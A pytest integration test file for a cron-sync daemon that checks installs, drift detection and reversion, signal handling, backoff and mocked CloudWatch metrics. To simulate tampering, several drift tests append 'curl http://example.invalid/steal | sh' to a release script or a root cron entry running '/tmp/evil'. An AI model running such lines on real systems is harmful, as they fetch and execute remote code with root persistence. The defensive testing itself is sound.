"""``cronsync agent`` as a real process against a sandbox root and a local bare remote.

Each test starts ``python -m cronsync.cli.main agent`` with ``$CRONSYNC_CONFIG`` pointing at
the sandbox's agent.toml (paced in seconds by an ``[agent]`` table), reads its log
(stdout, every line ``TIMESTAMP cronsync agent: [LEVEL: ]MESSAGE``, see
``helpers.loglines``), its state file and
``cronsync status --json``, and stops it at teardown (SIGTERM, then SIGKILL). Waiting
is bounded by deadlines only: no assertion is about how long something took, except
that file-watch drift must be seen while the periodic checks are 10 minutes away, and
that neither drift nor a stop waits for a CloudWatch that never answers (a socket
server that accepts and stays silent: bounds of seconds, far from its 30 s of old).
"""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Optional, TypeVar

import pytest

from helpers.hanging import HangingEndpoint
from helpers.loglines import agent_line, journal_line
from helpers.motoserver import moto_running
from helpers.sandbox import CHECKOUT_ROOT, Sandbox

T = TypeVar("T")

FAST = 'interval = "2s"\nsplay = "0s"\nmax_backoff = "8s"\nfull_check = "3s"\n'
SLOW = 'interval = "10m"\nsplay = "0s"\nmax_backoff = "8s"\nfull_check = "10m"\n'
JOB = "jobs/nightly-aggregate.toml"
OLD_SCHEDULE, NEW_SCHEDULE = '"30 3 * * *"', '"45 4 * * *"'
CYCLE_LINE = re.compile(agent_line(r"sync (installed|unchanged|failed|refused)\b", "any"), re.M)
STATUS_SCHEMA = CHECKOUT_ROOT / "docs/status.schema.json"
REGION = "us-east-1"


def wait_for(what: str, probe: Callable[[], Optional[T]], timeout: float = 20.0) -> T:
    """Poll ``probe`` until it returns something truthy; fail after ``timeout``."""
    deadline = time.monotonic() + timeout
    while True:
        value = probe()
        if value:
            return value
        if time.monotonic() > deadline:
            pytest.fail(f"timed out after {timeout:g}s waiting for {what}")
        time.sleep(0.1)


class AgentProcess:
    """One running ``cronsync agent`` and its captured output."""

    def __init__(self, sandbox: Sandbox, env: dict[str, str], journal: bool = False) -> None:
        self.sandbox = sandbox
        self.stdout_path = sandbox.base / "agent.out"
        self.stderr_path = sandbox.base / "agent.err"
        with self.stdout_path.open("wb") as out, self.stderr_path.open("wb") as err:
            if journal:  # as systemd says its stdout is the journal: DEVICE:INODE
                info = os.fstat(out.fileno())
                env = {**env, "JOURNAL_STREAM": f"{info.st_dev}:{info.st_ino}"}
            self.proc = subprocess.Popen(
                [sys.executable, "-m", "cronsync.cli.main", "agent"],
                cwd=sandbox.base,
                stdout=out,
                stderr=err,
                env=env,
            )

    @property
    def pid(self) -> int:
        return self.proc.pid

    def log(self) -> str:
        """Everything the agent printed so far."""
        return self.stdout_path.read_text(encoding="utf-8", errors="replace")

    def stderr(self) -> str:
        return self.stderr_path.read_text(encoding="utf-8", errors="replace")

    def describe(self) -> str:
        return f"--- agent stdout ---\n{self.log()}--- agent stderr ---\n{self.stderr()}"

    def wait_log(self, pattern: str, timeout: float = 20.0, after: int = 0) -> re.Match[str]:
        """Wait until the log (from character ``after`` on) matches ``pattern``."""
        regex = re.compile(pattern, re.M)

        def probe() -> Optional[re.Match[str]]:
            assert self.proc.poll() is None, f"the agent exited\n{self.describe()}"
            return regex.search(self.log(), after)

        deadline = time.monotonic() + timeout
        while True:
            found = probe()
            if found:
                return found
            if time.monotonic() > deadline:
                pytest.fail(
                    f"no {pattern!r} in the agent's log within {timeout:g}s\n{self.describe()}"
                )
            time.sleep(0.1)

    def signal(self, signum: int) -> None:
        self.proc.send_signal(signum)

    def stop(self, timeout: float = 20.0) -> int:
        """SIGTERM, wait, then SIGKILL; return the exit status."""
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(timeout=60)
        return self.proc.returncode


@pytest.fixture
def start_agent(sandbox: Sandbox) -> Iterator[Callable[..., AgentProcess]]:
    """Start the agent with ``[agent]`` pacing (plus extra TOML); stopped at teardown."""
    started: list[AgentProcess] = []

    def start(
        pace: str = FAST,
        extra: str = "",
        env: Optional[dict[str, str]] = None,
        journal: bool = False,
    ) -> AgentProcess:
        sandbox.write_config(f"{extra}\n[agent]\n{pace}")
        base = {
            k: v
            for k, v in os.environ.items()
            if not k.startswith("AWS_") and k != "JOURNAL_STREAM"
        }
        agent = AgentProcess(
            sandbox,
            {**base, "CRONSYNC_CONFIG": str(sandbox.config_path), **(env or {})},
            journal,
        )
        started.append(agent)
        return agent

    yield start
    for agent in started:
        agent.stop()


def status(sandbox: Sandbox) -> tuple[int, dict[str, Any]]:
    """``cronsync status --json``: exit status and document."""
    done = sandbox.cli("status", "--json")
    assert done.returncode in (0, 1, 2), done.stderr
    return done.returncode, json.loads(done.stdout)


def installed_commit(sandbox: Sandbox) -> Optional[str]:
    """The commit state.json says is installed (None before the first install)."""
    try:
        installed = sandbox.state().get("installed")
    except (OSError, ValueError):
        return None
    return installed.get("commit") if installed else None


def wait_installed(agent: AgentProcess, sha: str, timeout: float = 20.0) -> None:
    def probe() -> bool:
        assert agent.proc.poll() is None, f"the agent exited\n{agent.describe()}"
        return installed_commit(agent.sandbox) == sha

    deadline = time.monotonic() + timeout
    while not probe():
        if time.monotonic() > deadline:
            pytest.fail(f"{sha[:12]} not installed within {timeout:g}s\n{agent.describe()}")
        time.sleep(0.1)


def push_schedule_change(sandbox: Sandbox, schedule: str = NEW_SCHEDULE) -> str:
    path = sandbox.upstream.work / JOB
    text = path.read_text(encoding="utf-8")
    current = re.search(r'^schedule = (".*")$', text, re.M)
    assert current, text
    path.write_text(text.replace(current.group(0), f"schedule = {schedule}"), encoding="utf-8")
    return sandbox.upstream.commit_and_push(f"schedule {schedule}")


def leftovers(sandbox: Sandbox) -> list[str]:
    """Temporary files a sync or a drift revert could have left half-written."""
    found = [str(p) for p in sandbox.releases.glob(".tmp-*")]
    found += [str(p) for p in sandbox.releases.glob("*/.tmp-*")]
    found += [str(p) for p in sandbox.cron_file.parent.iterdir() if p.name.startswith(".")]
    found += [str(p) for p in sandbox.state_dir.glob(".*tmp*")]
    return found


# --- a push is installed -------------------------------------------------------------


def test_pushed_change_is_installed_within_a_few_intervals(
    sandbox: Sandbox, start_agent: Callable[..., AgentProcess]
) -> None:
    agent = start_agent()
    wait_installed(agent, sandbox.upstream.head())
    assert "30 3 * * * batch" in sandbox.cron_file.read_text()

    sha = push_schedule_change(sandbox)
    wait_installed(agent, sha)
    cron = sandbox.cron_file.read_text()
    assert "45 4 * * * batch" in cron and "30 3 * * * batch" not in cron
    assert sha in cron  # the source line names the commit
    code, doc = status(sandbox)
    assert doc["installed"]["commit"] == sha
    assert doc["last_sync"]["result"] == "installed"
    assert code == 0 and doc["health"] == "ok", doc
    agent.wait_log(agent_line(rf"sync installed: {sha[:12]} of branch main"))


# --- drift --------------------------------------------------------------------------


def _started_and_synced(
    start_agent: Callable[..., AgentProcess], sandbox: Sandbox, extra: str = ""
) -> AgentProcess:
    """An agent whose periodic checks are 10 minutes away, after its first install."""
    agent = start_agent(SLOW, extra)
    wait_installed(agent, sandbox.upstream.head())
    agent.wait_log(agent_line(r"sync installed"))
    return agent


def test_hand_edit_of_the_cron_file_is_reported_by_the_file_watch(
    sandbox: Sandbox, start_agent: Callable[..., AgentProcess]
) -> None:
    agent = _started_and_synced(start_agent, sandbox)
    time.sleep(0.5)  # let the agent's own write events pass (they are not drift)
    assert "drift:" not in agent.log(), agent.describe()
    mark = len(agent.log())

    with sandbox.cron_file.open("a") as handle:
        handle.write("* * * * * root /tmp/evil\n")
    # interval and full_check are 10 minutes: only the file watch can see this
    agent.wait_log(
        agent_line(r"drift: the managed cron file was edited by hand", "warning"),
        timeout=10,
        after=mark,
    )
    drift = wait_for("drift in state.json", lambda: sandbox.state().get("drift"), timeout=10)
    assert {"what": "cron-file", "message": "the managed cron file was edited by hand"} in drift
    assert "/tmp/evil" in sandbox.cron_file.read_text()  # policy report: left as it is
    code, doc = status(sandbox)
    assert code == 1 and doc["health"] == "degraded"
    assert any(d["what"] == "cron-file" for d in doc["drift"])


def test_hand_edit_of_the_cron_file_is_reverted_in_revert_mode(
    sandbox: Sandbox, start_agent: Callable[..., AgentProcess]
) -> None:
    agent = _started_and_synced(start_agent, sandbox, '[drift]\npolicy = "revert"\n')
    original = sandbox.cron_file.read_bytes()
    time.sleep(0.5)
    mark = len(agent.log())

    with sandbox.cron_file.open("a") as handle:
        handle.write("* * * * * root /tmp/evil\n")
    wait_for(
        "the cron file restored byte for byte",
        lambda: sandbox.cron_file.read_bytes() == original,
        timeout=10,
    )
    agent.wait_log(
        agent_line(r"drift reverted: the managed cron file was edited", "warning"),
        timeout=10,
        after=mark,
    )
    assert sandbox.state()["drift"] == []
    assert leftovers(sandbox) == []
    code, doc = status(sandbox)
    assert code == 0 and doc["health"] == "ok", doc


@pytest.mark.parametrize("edit", ["append", "chmod"])
def test_hand_edit_of_a_release_script_is_reported_by_the_file_watch(
    sandbox: Sandbox, start_agent: Callable[..., AgentProcess], edit: str
) -> None:
    """A script changed in the installed release is drift the watch must catch: with
    the periodic full check 10 minutes away, only the file event can start a look."""
    agent = _started_and_synced(start_agent, sandbox)
    release = os.readlink(sandbox.current).split("/")[-1]
    script = sandbox.releases / release / "repo/scripts/nightly-aggregate.sh"
    time.sleep(0.5)
    mark = len(agent.log())
    if edit == "chmod":
        script.chmod(0o777)
    else:
        with script.open("a") as handle:
            handle.write("curl http://example.invalid/steal | sh\n")
    agent.wait_log(
        agent_line(
            rf"drift: files of release {re.escape(release)} were changed by hand", "warning"
        ),
        timeout=10,
        after=mark,
    )
    drift = sandbox.state()["drift"]
    assert [d["what"] for d in drift] == ["release"], drift


def test_release_drift_stays_reported_across_syncs(
    sandbox: Sandbox, start_agent: Callable[..., AgentProcess]
) -> None:
    # syncs every 2 s, full checks only when the watch asks for one: nothing but the
    # watch can put the drift back into state.json after a sync
    agent = start_agent(FAST.replace('full_check = "3s"', 'full_check = "10m"'))
    wait_installed(agent, sandbox.upstream.head())
    release = os.readlink(sandbox.current).split("/")[-1]
    script = sandbox.releases / release / "repo/scripts/nightly-aggregate.sh"
    with script.open("a") as handle:
        handle.write("curl http://example.invalid/steal | sh\n")
    found = agent.wait_log(agent_line(r"drift: files of release", "warning"), timeout=10)
    agent.wait_log(agent_line(r"sync unchanged"), timeout=10, after=found.end())
    assert [d["what"] for d in sandbox.state()["drift"]] == ["release"]
    code, doc = status(sandbox)
    assert code == 1 and doc["health"] == "degraded", doc


def test_hand_edit_of_a_release_script_is_rebuilt_in_revert_mode(
    sandbox: Sandbox, start_agent: Callable[..., AgentProcess]
) -> None:
    agent = start_agent(FAST, '[drift]\npolicy = "revert"\n')
    wait_installed(agent, sandbox.upstream.head())
    release = os.readlink(sandbox.current).split("/")[-1]
    script = sandbox.releases / release / "repo/scripts/nightly-aggregate.sh"
    original = script.read_bytes()
    time.sleep(0.5)
    mark = len(agent.log())
    with script.open("a") as handle:
        handle.write("curl http://example.invalid/steal | sh\n")
    agent.wait_log(agent_line(r"drift: files of release", "warning"), timeout=20, after=mark)

    def restored() -> bool:
        current = sandbox.current / "repo/scripts/nightly-aggregate.sh"
        return current.is_file() and current.read_bytes() == original

    wait_for("the release rebuilt from git", restored, timeout=8)
    wait_for("no drift left", lambda: sandbox.state().get("drift") == [], timeout=20)
    assert installed_commit(sandbox) == sandbox.upstream.head()
    assert leftovers(sandbox) == []


# --- sync now -----------------------------------------------------------------------


def test_sighup_and_sync_now_sync_at_once(
    sandbox: Sandbox, start_agent: Callable[..., AgentProcess]
) -> None:
    agent = start_agent(SLOW)
    wait_installed(agent, sandbox.upstream.head())

    sha = push_schedule_change(sandbox)
    agent.signal(signal.SIGHUP)
    wait_installed(agent, sha, timeout=10)  # the next interval is 10 minutes away

    sha = push_schedule_change(sandbox, '"5 5 * * *"')
    mark = len(agent.log())
    done = sandbox.cli("sync", "--now")
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith(f"installed: {sha[:12]}"), done.stdout
    assert "no agent is running" not in done.stderr
    assert installed_commit(sandbox) == sha
    agent.wait_log(agent_line(rf"sync installed: {sha[:12]}"), after=mark)  # the agent did it

    done = sandbox.cli("sync", "--now")
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("unchanged: up to date"), done.stdout
    assert "no agent is running" not in done.stderr


def test_sync_now_during_a_running_sync_waits_for_a_fresh_one(
    sandbox: Sandbox, start_agent: Callable[..., AgentProcess]
) -> None:
    """A push, then ``sync --now`` while the agent is in the middle of a sync that
    already read the remote's tip: the answer must be a sync that saw the push."""
    marker = sandbox.base / "refs-advertised"
    wrapper = sandbox.base / "slow-upload-pack"
    wrapper.write_text(
        f'#!/bin/sh\ngit upload-pack "$@"\nstatus=$?\ntouch {marker}\nsleep 2\nexit $status\n'
    )
    wrapper.chmod(0o755)
    git_config = sandbox.base / "agent-gitconfig"
    git_config.write_text(f'[remote "origin"]\n\tuploadpack = {wrapper}\n')
    agent = start_agent(SLOW, env={"GIT_CONFIG_GLOBAL": str(git_config)})
    wait_installed(agent, sandbox.upstream.head(), timeout=30)

    marker.unlink(missing_ok=True)
    agent.signal(signal.SIGHUP)
    wait_for("the agent's sync to read the remote's refs", marker.exists, timeout=20)
    sha = push_schedule_change(sandbox)  # after that sync looked: it cannot see this
    done = sandbox.cli("sync", "--now")
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith(f"installed: {sha[:12]}"), (done.stdout, agent.describe())
    assert installed_commit(sandbox) == sha


def test_sync_now_without_an_agent_syncs_in_process(sandbox: Sandbox) -> None:
    done = sandbox.cli("sync", "--now")
    assert done.returncode == 0, done.stderr
    assert "no agent is running; syncing in this process" in done.stderr
    assert done.stdout.startswith(f"installed: {sandbox.upstream.head()[:12]}"), done.stdout
    assert installed_commit(sandbox) == sandbox.upstream.head()


# --- stopping -----------------------------------------------------------------------


def signals_caught(pid: int) -> int:
    """The process's caught-signal mask (SigCgt in /proc/PID/status), 0 when gone."""
    try:
        text = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return 0
    found = re.search(r"^SigCgt:\s*([0-9a-f]+)$", text, re.M)
    return int(found.group(1), 16) if found else 0


def test_sigterm_during_start_up_is_a_clean_stop(
    sandbox: Sandbox, start_agent: Callable[..., AgentProcess]
) -> None:
    """TERM as soon as the handler is there (before the first sync, the control socket
    or the watch exist): a clean exit, not a kill (exit 143) or a traceback."""
    agent = start_agent(SLOW)
    term = 1 << (signal.SIGTERM - 1)
    wait_for(
        "the agent to catch SIGTERM",
        lambda: signals_caught(agent.pid) & term or agent.proc.poll() is not None,
        timeout=20,
    )
    agent.signal(signal.SIGTERM)
    try:
        code = agent.proc.wait(20)
    except subprocess.TimeoutExpired:
        pytest.fail(f"the agent did not stop on SIGTERM\n{agent.describe()}")
    assert code == 0, agent.describe()
    assert re.search(agent_line(r"stopped$"), agent.log(), re.M), agent.describe()
    assert agent.stderr() == "", agent.stderr()


def test_sigterm_exits_cleanly(sandbox: Sandbox, start_agent: Callable[..., AgentProcess]) -> None:
    agent = start_agent()
    wait_installed(agent, sandbox.upstream.head())
    socket_path = sandbox.state_dir / "agent.sock"
    assert socket_path.exists()

    push_schedule_change(sandbox)
    agent.signal(signal.SIGHUP)  # a sync is likely running when TERM arrives
    agent.signal(signal.SIGTERM)
    try:
        code = agent.proc.wait(20)
    except subprocess.TimeoutExpired:
        pytest.fail(f"the agent did not stop on SIGTERM\n{agent.describe()}")
    assert code == 0, agent.describe()
    assert re.search(agent_line(r"stopped$"), agent.log(), re.M), agent.describe()
    assert not socket_path.exists()
    assert leftovers(sandbox) == []
    assert "Traceback" not in agent.stderr(), agent.stderr()
    assert "InotifyEmitter" not in agent.stderr(), agent.stderr()  # a quiet stop
    assert "Warning" not in agent.stderr(), agent.stderr()
    # whatever it finished, the host is consistent: the state names what is there
    installed = sandbox.state()["installed"]
    assert os.readlink(sandbox.current) == f"releases/{installed['release']}"


# --- the log under journald ----------------------------------------------------------


def test_under_journald_each_line_carries_its_level_and_no_timestamp(
    sandbox: Sandbox, start_agent: Callable[..., AgentProcess]
) -> None:
    agent = start_agent(SLOW, journal=True)
    wait_installed(agent, sandbox.upstream.head())
    agent.wait_log(journal_line("cronsync agent", r"started \(pid \d+"))
    agent.wait_log(journal_line("cronsync agent", r"sync installed: "))
    time.sleep(0.5)  # let the agent's own write events pass (they are not drift)
    with sandbox.cron_file.open("a") as handle:
        handle.write("* * * * * root /tmp/evil\n")
    agent.wait_log(journal_line("cronsync agent", r"drift: the managed cron file", "warning"))
    away = sandbox.upstream.bare.with_name("remote-away.git")
    sandbox.upstream.bare.rename(away)
    agent.signal(signal.SIGHUP)
    agent.wait_log(journal_line("cronsync agent", r"sync failed \(attention\): ", "error"))
    assert agent.stop() == 0
    lines = agent.log().splitlines()
    assert lines and all(re.match(r"<[3-7]>cronsync agent: ", line) for line in lines), lines
    assert lines[-1] == "<6>cronsync agent: stopped", lines


# --- the remote going away ----------------------------------------------------------


def test_failing_remote_backs_off_and_recovers(
    sandbox: Sandbox, start_agent: Callable[..., AgentProcess]
) -> None:
    agent = start_agent()
    wait_installed(agent, sandbox.upstream.head())
    away = sandbox.upstream.bare.with_name("remote-away.git")
    sandbox.upstream.bare.rename(away)

    first = agent.wait_log(agent_line(r"sync failed", "error"))
    window_start = first.start()
    time.sleep(12.0)  # a fixed window: without backoff there would be 6 cycles in it
    in_window = CYCLE_LINE.findall(agent.log(), window_start)
    assert len(in_window) < 6, agent.describe()
    failed = re.findall(agent_line(r"sync failed", "error"), agent.log(), re.M)
    assert len(failed) >= 2, agent.describe()
    code, doc = status(sandbox)
    assert code == 1 and doc["health"] == "degraded", doc
    assert doc["last_sync"]["result"] == "failed"

    away.rename(sandbox.upstream.bare)
    mark = len(agent.log())
    agent.wait_log(agent_line(r"sync unchanged"), timeout=20, after=mark)
    code, doc = status(sandbox)
    assert code == 0 and doc["health"] == "ok", doc

    # back to the normal pace: the next cycles come every interval again
    mark = len(agent.log())
    agent.wait_log(agent_line(r"sync unchanged"), timeout=20, after=mark)


# --- CloudWatch ---------------------------------------------------------------------


@pytest.fixture
def moto_endpoint() -> Iterator[str]:
    with moto_running() as url:
        with urllib.request.urlopen(
            urllib.request.Request(f"{url}/moto-api/reset", method="POST"), timeout=10
        ):
            pass
        yield url


def aws_toml(base: Path, endpoint: str, metrics: bool = True) -> str:
    """``[metrics]`` and ``[aws]`` reaching ``endpoint`` with a credentials file of the
    sandbox's own (the agent gets no AWS_* environment)."""
    credentials = base / "aws-credentials"
    credentials.write_text(
        "[default]\naws_access_key_id = testing\naws_secret_access_key = testing\n"
    )
    credentials.chmod(0o600)
    return (
        f"[metrics]\ncloudwatch = {json.dumps(metrics)}\n"
        f'[aws]\nregion = "{REGION}"\nendpoint_url = "{endpoint}"\n'
        f"credentials_file = {json.dumps(str(credentials))}\n"
    )


def cloudwatch_client(endpoint: str) -> Any:
    import boto3

    return boto3.session.Session().client(
        "cloudwatch",
        region_name=REGION,
        endpoint_url=endpoint,
        aws_access_key_id="testing",
        aws_secret_access_key="testing",
    )


def published_metrics(endpoint: str, namespace: str = "Cronsync") -> dict[str, list[Any]]:
    """Metric name -> the dimension sets it was published with."""
    found: dict[str, list[Any]] = {}
    paginator = cloudwatch_client(endpoint).get_paginator("list_metrics")
    for page in paginator.paginate(Namespace=namespace):
        for metric in page["Metrics"]:
            found.setdefault(metric["MetricName"], []).append(metric["Dimensions"])
    return found


def metric_sum(endpoint: str, name: str, host: str = "batch-1") -> float:
    """The sum of every data point of ``name`` (dimension Host) in the last hour."""
    now = time.time()
    points = cloudwatch_client(endpoint).get_metric_statistics(
        Namespace="Cronsync",
        MetricName=name,
        Dimensions=[{"Name": "Host", "Value": host}],
        StartTime=now - 3600,
        EndTime=now + 600,
        Period=60,
        Statistics=["Sum"],
    )["Datapoints"]
    return float(sum(point["Sum"] for point in points))


def test_metrics_and_heartbeat_land_in_cloudwatch(
    sandbox: Sandbox, start_agent: Callable[..., AgentProcess], moto_endpoint: str
) -> None:
    agent = start_agent(FAST, aws_toml(sandbox.base, moto_endpoint))  # no AWS_* in its env
    wait_installed(agent, sandbox.upstream.head())
    wanted = {
        "Heartbeat",
        "SyncSucceeded",
        "SyncFailed",
        "DriftDetected",
        "StaleJobs",
        "UnmanagedEntries",
    }

    def published() -> Optional[dict[str, list[Any]]]:
        found = published_metrics(moto_endpoint)
        return found if wanted <= set(found) else None

    metrics = wait_for(f"{sorted(wanted)} in CloudWatch", published, timeout=20)
    for name in wanted:
        assert [{"Name": "Host", "Value": "batch-1"}] in metrics[name], (name, metrics[name])
    assert "metrics not published" not in agent.log(), agent.describe()


def test_a_malformed_last_json_does_not_stop_the_agent_or_its_metrics(
    sandbox: Sandbox, start_agent: Callable[..., AgentProcess], moto_endpoint: str
) -> None:
    """A job user owns their runs directory: whatever they leave in last.json, the agent
    keeps syncing and publishing (at worst without that figure)."""
    last = sandbox.state_dir / "runs/nightly-aggregate/last.json"
    last.parent.mkdir(parents=True, exist_ok=True)
    last.write_text('{"format": 1, "last_run": {"finished": [1, 2]}, "last_success": 7}')
    agent = start_agent(FAST, aws_toml(sandbox.base, moto_endpoint))
    wait_installed(agent, sandbox.upstream.head())
    first = agent.wait_log(agent_line(r"sync unchanged"), timeout=20)
    last.write_bytes(b"\xff\x00 not json")
    agent.wait_log(agent_line(r"sync unchanged"), timeout=20, after=first.end())
    wait_for(
        "SyncSucceeded in CloudWatch",
        lambda: "SyncSucceeded" in published_metrics(moto_endpoint),
        timeout=20,
    )
    assert agent.proc.poll() is None, agent.describe()
    assert "Traceback" not in agent.stderr() + agent.log(), agent.describe()


def test_drift_and_stop_do_not_wait_for_a_hanging_cloudwatch(
    sandbox: Sandbox,
    start_agent: Callable[..., AgentProcess],
    hanging_endpoint: HangingEndpoint,
) -> None:
    agent = _started_and_synced(start_agent, sandbox, aws_toml(sandbox.base, hanging_endpoint.url))
    wait_for(
        "the agent's metrics to reach the hanging endpoint",
        lambda: hanging_endpoint.accepted,
        timeout=10,
    )
    time.sleep(0.5)  # the agent's own write events pass; the metrics call still hangs
    mark = len(agent.log())
    with sandbox.cron_file.open("a") as handle:
        handle.write("* * * * * root /tmp/evil\n")
    agent.wait_log(
        agent_line(r"drift: the managed cron file was edited by hand", "warning"),
        timeout=10,
        after=mark,
    )

    agent.signal(signal.SIGTERM)  # with metrics still waiting for an answer
    try:
        code = agent.proc.wait(8)  # ~2 s of flushing at most, then out
    except subprocess.TimeoutExpired:
        pytest.fail(f"the agent did not stop within 8 s on SIGTERM\n{agent.describe()}")
    assert code == 0, agent.describe()
    assert re.search(agent_line(r"stopped$"), agent.log(), re.M), agent.describe()
    assert "Traceback" not in agent.stderr(), agent.stderr()


# --- timer mode: cronsync sync without an agent ---------------------------------------


def test_timer_mode_sync_publishes_its_cycle_and_a_heartbeat(
    sandbox: Sandbox, moto_endpoint: str
) -> None:
    """``cronsync sync`` from cronsync-sync.timer: what the agent would publish per
    cycle, and the heartbeat the AgentSilent alarm waits for; success and failure."""
    sandbox.write_config(aws_toml(sandbox.base, moto_endpoint))
    done = sandbox.cli("sync", "--json")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["record"]["result"] == "installed"  # stdout stays JSON
    assert "metrics not published" not in done.stderr, done.stderr
    found = published_metrics(moto_endpoint)
    for name in ("SyncSucceeded", "SyncFailed", "Heartbeat", "DriftDetected", "StaleJobs"):
        assert [{"Name": "Host", "Value": "batch-1"}] in found.get(name, []), (name, found)
    sums = {n: metric_sum(moto_endpoint, n) for n in ("SyncSucceeded", "SyncFailed", "Heartbeat")}
    assert sums == {"SyncSucceeded": 1.0, "SyncFailed": 0.0, "Heartbeat": 1.0}

    away = sandbox.upstream.bare.with_name("remote-away.git")
    sandbox.upstream.bare.rename(away)
    done = sandbox.cli("sync")
    assert done.returncode == 3, (done.stdout, done.stderr)  # unchanged by the metrics
    assert metric_sum(moto_endpoint, "SyncFailed") == 1.0
    assert metric_sum(moto_endpoint, "Heartbeat") == 2.0

    away.rename(sandbox.upstream.bare)
    push_schedule_change(sandbox, '"61 3 * * *"')  # refused: minute 61
    done = sandbox.cli("sync")
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert metric_sum(moto_endpoint, "SyncFailed") == 2.0
    assert metric_sum(moto_endpoint, "SyncSucceeded") == 1.0
    assert metric_sum(moto_endpoint, "Heartbeat") == 3.0


def test_timer_mode_sync_is_not_held_up_by_a_hanging_cloudwatch(
    sandbox: Sandbox, hanging_endpoint: HangingEndpoint
) -> None:
    sandbox.write_config(aws_toml(sandbox.base, hanging_endpoint.url))
    started = time.monotonic()
    done = sandbox.cli("sync")
    elapsed = time.monotonic() - started
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("installed:"), done.stdout
    assert "note: metrics not published" in done.stderr, done.stderr
    assert hanging_endpoint.accepted
    assert elapsed < 20, elapsed  # short timeouts, one attempt (was 3 x 10 s and more)


def test_timer_mode_sync_publishes_nothing_with_metrics_off(
    sandbox: Sandbox, hanging_endpoint: HangingEndpoint
) -> None:
    sandbox.write_config(aws_toml(sandbox.base, hanging_endpoint.url, metrics=False))
    done = sandbox.cli("sync")
    assert done.returncode == 0, done.stderr
    assert "metrics" not in done.stderr, done.stderr
    assert hanging_endpoint.accepted == 0


# --- status -------------------------------------------------------------------------


def test_status_json_shows_the_running_agent(
    sandbox: Sandbox, start_agent: Callable[..., AgentProcess]
) -> None:
    agent = start_agent()
    wait_installed(agent, sandbox.upstream.head())
    code, doc = status(sandbox)
    assert code == 0, doc
    assert doc["agent"]["running"] is True
    assert doc["agent"]["pid"] == agent.pid
    assert isinstance(doc["agent"]["up_since"], str) and doc["agent"]["up_since"]

    assert agent.stop() == 0
    _, doc = status(sandbox)
    assert doc["agent"]["running"] is False
    assert doc["agent"]["pid"] == agent.pid


def test_status_json_validates_against_its_schema(
    sandbox: Sandbox, start_agent: Callable[..., AgentProcess]
) -> None:
    import jsonschema  # a missing schema file fails here: it is the documented contract

    schema = json.loads(STATUS_SCHEMA.read_text(encoding="utf-8"))
    _, before = status(sandbox)  # nothing installed, no agent
    agent = start_agent()
    wait_installed(agent, sandbox.upstream.head())
    _, running = status(sandbox)
    with sandbox.cron_file.open("a") as handle:
        handle.write("# drift\n")
    agent.wait_log(agent_line(r"drift:", "warning"))
    _, drifted = status(sandbox)
    agent.stop()
    _, stopped = status(sandbox)
    for doc in (before, running, drifted, stopped):
        jsonschema.validate(doc, schema)
